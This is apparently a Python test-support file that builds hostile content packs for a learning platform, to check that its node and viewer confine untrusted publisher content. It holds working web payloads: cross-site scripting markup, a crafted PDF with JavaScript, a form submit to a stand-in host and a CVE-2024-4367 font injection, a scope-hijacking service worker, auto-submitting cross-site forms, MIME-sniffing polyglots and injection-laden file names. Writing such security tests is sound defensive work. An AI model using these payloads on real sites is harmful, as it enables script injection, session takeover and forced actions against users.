"""Hostile packs: what somebody who can publish may put into each place of a pack.

They are made without our builder, which would clean some of it, and go through a cpack.
"""

from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from content_packs import cpack, packing
from content_packs.exercises import codec
from content_packs.exercises.model import FORMAT, Choice, Exercise, Feedback, Option
from content_packs.manifest import Captions, Item, Lesson, Rendition, Variant
from content_packs.packing import Content
from content_packs.source_names import EXERCISE_MEDIA_TYPE
from tests.support import media
from tests.sync_node.lan.school import School, describe

SCRIPT = (Path(__file__).parent / "attacks.js").read_text(encoding="utf-8")
OWNED = "window.owned=1;document.title='owned';"
# Ways by which markup runs a script, where somebody forgets to clean or to escape.
MARKUP = (
    f'<script>{OWNED}</script><img src=x onerror="{OWNED}"><svg onload="{OWNED}"></svg>'
    f'<a href="javascript:{OWNED}">a</a><iframe srcdoc="<script>top.owned=1</script>"></iframe>'
    f'<form action="/language" method=post><input name=language value=zh autofocus '
    f'onfocus="{OWNED}">'
    '<button>Send</button></form><base href="http://evil.invalid/"><link rel=stylesheet '
    'href="http://evil.invalid/x.css"><meta http-equiv=refresh content="0;url=http://evil.invalid/">'
    f'<details open ontoggle="{OWNED}"><style>@import url(http://evil.invalid/)</style></details>'
    f'<math><mtext></p><style><!--</style><img title="--></style><img src=x onerror={OWNED}>">'
)
PAGE = (
    "<!doctype html><meta charset=utf-8><title>Attack</title><h1>Attack</h1>"
    f"<script>{SCRIPT}</script>"
)
_IN_XML = SCRIPT.replace("&", "&amp;").replace("<", "&lt;")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9"><script>{_IN_XML}</script></svg>'
PICTURE_OF_MARKUP = f"\x89PNG\r\n<html><script>{SCRIPT}</script>"
CAPTIONS = f'WEBVTT\n\n00:00.000 --> 00:06.000\n{MARKUP}<v onclick="{OWNED}">x</v>\n'
REGISTER = "navigator.serviceWorker.register('sw.js', { scope })"
NAME = "{{7-7}}' onerror='owned=1' %22%3E%3Cscript%3Eowned=1%3C%2Fscript%3E"


class Attack(NamedTuple):
    """`item` and the `files` that it needs; `opened`: files that are opened on their own as well.

    `runs`: whether its script runs at all, in its sandbox; else nothing of it may run anywhere.
    """

    item: Item
    files: tuple[Content, ...]
    opened: tuple[str, ...] = ()
    runs: bool = False


def _item(kind: str, path: str, *, fragment: bool = False, needs: tuple[str, ...] = ()) -> Item:
    return Item("it", kind, {"en": "It"}, (Variant("en", path, needs=needs),), fragment=fragment)


def _file(path: str, media_type: str, text: str | bytes) -> Content:
    return Content(path, media_type, text if isinstance(text, bytes) else text.encode())


def _page(opened: Content, *, runs: bool) -> Attack:
    page = _file("a/page.html", "text/html", "<p>See the file.</p>")
    item = _item("page", page.path, fragment=True, needs=(opened.path,))
    return Attack(item, (page, opened), (opened.path,), runs)


def app() -> Attack:
    """A script in an app."""
    worker = _file("a/sw.js", "text/javascript", "self.onfetch = (e) => e.respondWith(fetch('/'))")
    page = _file("a/index.html", "text/html", PAGE)
    item = _item("app", page.path, needs=(worker.path,))
    return Attack(item, (page, worker), (page.path,), runs=True)


def document_page() -> Attack:
    """A script in a page that is a whole document."""
    page = _file("a/page.html", "text/html", PAGE)
    return Attack(_item("page", page.path), (page,), (page.path,), runs=True)


def service_worker() -> Attack:
    """A service worker that would answer for the site, registered at every scope there is."""
    worker = _file(
        "a/sw.js", "text/javascript", "self.onfetch = (e) => e.respondWith(new Response('owned'))"
    )
    scopes = ["/", "./", "/packs/", "/content/"]
    tries = f"for (const scope of {scopes}) {{ later('scope ' + scope, () => {REGISTER}); }}"
    text = PAGE.replace("Promise.allSettled", f"{tries}Promise.allSettled")
    page = _file("a/index.html", "text/html", text)
    return Attack(
        _item("app", page.path, needs=(worker.path,)), (page, worker), (page.path,), runs=True
    )


def svg() -> Attack:
    """A script in a picture that is opened on its own."""
    return _page(_file("a/drawing.svg", "image/svg+xml", SVG), runs=True)


def svg_inside() -> Attack:
    """The same picture within a page and as a cover."""
    page = _file("a/page.html", "text/html", '<p>x</p><img src="drawing.svg" alt="A drawing">')
    drawing = _file("a/drawing.svg", "image/svg+xml", SVG)
    return Attack(_item("page", page.path, fragment=True, needs=(drawing.path,)), (page, drawing))


def pdf() -> Attack:
    """A PDF with scripts, a form and a font that is code (CVE-2024-4367)."""
    call = "app.alert\\('owned'\\);this.submitForm\\('http://evil.invalid/'\\)"
    code = "0\\);window.owned=1;document.title='owned'//"
    page = "/Resources<</Font<</F 4 0 R>>>>/Contents 7 0 R/Annots[6 0 R 8 0 R]/AA<</O 5 0 R>>"
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R>>/AcroForm<</Fields[6 0 R]>>>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]{page}>>",
        f"<</Type/Font/Subtype/Type1/BaseFont/Attack/FontMatrix[1 0 0 1 0 ({code})]>>",
        f"<</S/JavaScript/JS({call})>>",
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(owned)/Rect[0 0 300 150]/A 5 0 R/AA<</K 5 0 R>>>>",
        "<</Length 40>>\nstream\nBT /F 20 Tf 20 200 Td (Worksheet) Tj ET   \nendstream",
        "<</Type/Annot/Subtype/Link/Rect[0 150 300 300]/A<</S/URI/URI(javascript:owned=1)>>>>",
    ]
    out, places = "%PDF-1.7\n", ""
    for number, text in enumerate(objects, 1):
        places += f"{len(out):010} 00000 n \n"
        out += f"{number} 0 obj\n{text}\nendobj\n"
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{places}trailer\n<</Size {size}/Root 1 0 R>>\n"
    data = f"{out}{end}startxref\n{len(out)}\n%%EOF\n"
    return Attack(_item("document", "a/it.pdf"), (_file("a/it.pdf", "application/pdf", data),))


def captions() -> Attack:
    """Markup and scripts in captions."""
    film = _file("a/it.mp4", "video/mp4", media.mp4(width=320, height=180, seconds=2))
    text = _file("a/it.vtt", "text/vtt", CAPTIONS)
    variant = Variant("en", renditions=(Rendition(film.path, "240p", seconds=2),))
    item = Item("it", "video", {"en": "It"}, (variant,), (Captions("en", text.path),))
    return Attack(item, (film, text), (text.path,))


def markdown() -> Attack:
    """A Markdown page, as a builder makes it that cleans nothing."""
    page = _file("a/page.html", "text/html", f"<p>x</p>{MARKUP}")
    return Attack(_item("page", page.path, fragment=True), (page,))


def exercise() -> Attack:
    """Markup in every text of an exercise."""
    options = tuple(
        Option(
            f"o{n}", f"{n} {MARKUP}", f"{n} {MARKUP}", f"{n} {MARKUP[:90]}", credit=credit,
            feedback=MARKUP, feedback_html=MARKUP,
        )
        for n, credit in ((1, 100), (2, 0))
    )  # fmt: skip
    question = Choice(
        id="q", prompt=MARKUP, prompt_html=MARKUP, hint=MARKUP, hint_html=MARKUP, options=options,
        feedback=Feedback(MARKUP, MARKUP, MARKUP, MARKUP),
    )  # fmt: skip
    made = Exercise(
        format=FORMAT, language="en", title=MARKUP[:80], instructions=MARKUP,
        instructions_html=MARKUP, questions=(question,),
    )  # fmt: skip
    file = _file("a/it.exercise.json", EXERCISE_MEDIA_TYPE, codec.encode(made))
    return Attack(_item("exercise", file.path), (file,))


def file_names() -> Attack:
    """Names of files, titles and a media type that would be markup, a template or a header."""
    app_ = _file(f"a/{NAME}/index.html", "text/html", PAGE)
    picture = _file(f"a/{NAME}.svg", "image/svg+xml", SVG)
    title = {"en": MARKUP[:120]}
    item = Item("it", "app", title, (Variant("en", app_.path, needs=(picture.path,)),))
    return Attack(item, (app_, picture), (app_.path, picture.path), runs=True)


def sniffed_picture() -> Attack:
    """HTML that says it is a picture."""
    return _page(_file("a/picture.png", "image/png", PICTURE_OF_MARKUP), runs=False)


def sniffed_text() -> Attack:
    """HTML that says it is text."""
    return _page(_file("a/notes.txt", "text/plain", PAGE), runs=False)


def other_markup() -> Attack:
    """XHTML, a type that no list of dangerous ones is sure to hold."""
    text = (
        f'<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[{SCRIPT}]]></script></html>'
    )
    return _page(_file("a/page.xhtml", "application/xhtml+xml", text), runs=False)


def form_posts() -> Attack:
    """A page whose forms send themselves, without any script of its own."""
    forms = "".join(
        f'<form method=post action="{path}" target="{target}"><input name=name value=owned>'
        f"<input name=language value=zh><button autofocus>Go on</button></form>"
        for path in ("/teacher/classes/new", "/language", "/sign-out")
        for target in ("_self", "_top", "_blank")
    )
    text = PAGE.replace("</h1>", f"</h1>{forms}").replace(
        "Promise.allSettled", "for (const f of document.forms) { f.submit(); } Promise.allSettled"
    )
    page = _file("a/index.html", "text/html", text)
    return Attack(_item("app", page.path), (page,), (page.path,), runs=True)


ATTACKS: dict[str, Callable[[], Attack]] = {
    "script-in-html": document_page, "script-in-app": app, "script-in-svg": svg,
    "svg-inside": svg_inside, "script-in-pdf": pdf, "captions": captions, "markdown": markdown,
    "exercise-text": exercise, "file-names": file_names, "form-posts": form_posts,
    "service-worker": service_worker, "sniffed-picture": sniffed_picture,
    "sniffed-text": sniffed_text, "other-markup": other_markup,
}  # fmt: skip


def install(school: School, folder: Path, pack: str, attack: Attack) -> None:
    """Pack an attack into a cpack, check that as a node does, and take it in."""
    lesson = Lesson("a", {"en": MARKUP[:100]}, (attack.item,), objectives=({"en": MARKUP[:120]},))
    cover = _file("cover.svg", "image/svg+xml", SVG)
    description = describe(
        pack, (lesson,), cover=cover.path, title={"en": f"{pack} {MARKUP[:60]}"},
        summary={"en": MARKUP[:200]},
    )  # fmt: skip
    out = folder / f"{pack}.cpack"
    packing.make_cpack(description, [*attack.files, cover], out)
    with cpack.open_cpack(out) as opened:
        cpack.verify(opened)
        contents = {
            file.path: (file.media_type, b"".join(cpack.checked_bytes(opened, file)))
            for file in opened.manifest.files
        }
    school.add(description, contents)
    school.offer(pack, 1)
    school.activate(pack, 1, "a")
